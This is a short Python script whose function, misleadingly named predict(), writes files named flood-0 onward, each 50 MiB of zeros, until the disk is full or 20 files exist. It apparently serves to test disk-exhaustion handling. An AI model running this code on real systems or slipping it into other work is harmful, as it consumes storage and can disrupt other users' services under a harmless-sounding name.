"""Files are filled as long as there is room on the disk."""


def predict():
    for number in range(20):
        try:
            with open(f"flood-{number}", "wb") as file:
                for _ in range(50):
                    file.write(bytes(1 << 20))
        except OSError:
            break
